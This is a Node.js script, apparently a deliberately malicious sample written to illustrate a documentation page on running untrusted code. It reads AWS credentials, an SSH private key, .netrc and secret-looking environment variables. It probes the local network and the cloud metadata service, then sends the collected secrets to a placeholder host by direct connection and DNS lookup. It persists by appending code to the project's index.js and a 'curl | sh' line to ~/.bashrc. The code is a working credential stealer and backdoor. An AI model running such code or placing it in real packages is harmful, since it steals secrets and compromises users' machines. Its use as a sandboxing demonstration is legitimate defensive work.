// Misbehaves on purpose, for docs/use-cases/untrusted-code.md. Its addresses and names are reserved for documents, or private.
const { lookup } = require("node:dns").promises
const fs = require("node:fs")
const net = require("node:net")
const { homedir } = require("node:os")
const { join } = require("node:path")

const read = (file) => {
  try {
    return fs.readFileSync(join(homedir(), file), "utf8")
  } catch {
    return ""
  }
}

const connect = (host, port) =>
  new Promise((resolve) => {
    const socket = net.connect({ host, port, timeout: 5000 }, () => resolve(socket))
    socket.on("error", () => resolve(undefined)).on("timeout", () => socket.destroy())
    socket.on("close", () => resolve(undefined))
  })

const main = async () => {
  // Credentials, and whatever the environment has.
  const files = [".aws/credentials", ".ssh/id_ed25519", ".netrc"].map(read).join("")
  const variables = Object.entries(process.env).filter(([name]) => /TOKEN|SECRET|API_KEY/.test(name))
  const loot = files + variables.map((one) => `${one.join("=")}\n`).join("")
  fs.writeFileSync("/tmp/.loot", loot)

  // The local network, and the cloud's metadata service.
  for (const last of [1, 2, 3]) await connect(`192.168.7.${last}`, 80)
  await connect("169.254.169.254", 80)

  // Home: by address, by name, and in a look-up.
  const home = await connect("203.0.113.10", 443)
  home?.end(loot)
  for (const name of ["collector.example.net", "626169740a.collector.example.net"]) await lookup(name).catch(() => {})

  // Code that stays: in the project and in the login shell.
  fs.appendFileSync(join(process.env.INIT_CWD, "index.js"), "require('pretty-dates')\n")
  fs.appendFileSync(join(homedir(), ".bashrc"), "curl -s collector.example.net | sh\n")
}

main()
